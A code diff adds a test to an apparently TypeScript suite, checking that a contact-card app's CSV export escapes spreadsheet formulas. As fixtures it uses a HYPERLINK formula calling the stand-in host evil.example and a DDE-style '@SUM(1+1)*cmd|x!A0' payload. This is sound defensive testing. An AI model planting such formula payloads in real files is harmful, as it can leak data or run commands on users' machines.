@@ -80,6 +80,19 @@ describe.each(testDialects())('export (C5, C3) on %s', (dialect) => {
     expect(secret).toContain(GROUP);
   });
 
+  it('C5: a card whose name or company is a spreadsheet formula is exported inert (a leading single quote)', async () => {
+    const name = '=HYPERLINK("http://evil.example/?x","x")';
+    const company = '@SUM(1+1)*cmd|x!A0';
+    const id = (await stack.client.data<{ createCard: { id: string } }>(CREATE, { input: { name, company, phones: ['+81-3-1234-5678'] } }, { token: t.member })).createCard.id;
+    await stack.client.data(GRANT, { input: { userId: DEMO.member.id, allowed: true } }, { token: t.admin });
+    const csv = (await stack.client.data<{ exportCards: { csv: string } }>(EXPORT, {}, { token: t.member })).exportCards.csv;
+    const [header, ...rows] = parseCsv(csv);
+    const card = rows.find((r) => r.fields[0] === id)!.fields;
+    const col = (column: string) => card[header!.fields.indexOf(column)];
+    expect([col('name'), col('company'), col('phones')]).toEqual([`'${name}`, `'${company}`, "'+81-3-1234-5678"]);
+    for (const r of rows) for (const cell of r.fields) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
   it('C5/C3: the zip holds cards.csv and the images of visible cards only, downloaded from a signed link; only with the export permission', async () => {
     const SET = `mutation($input: SetCardImageInput!) { setCardImage(input: $input) { id } }`;
     const ZIP = `mutation { exportCardsZip { cardCount sizeBytes url } }`;
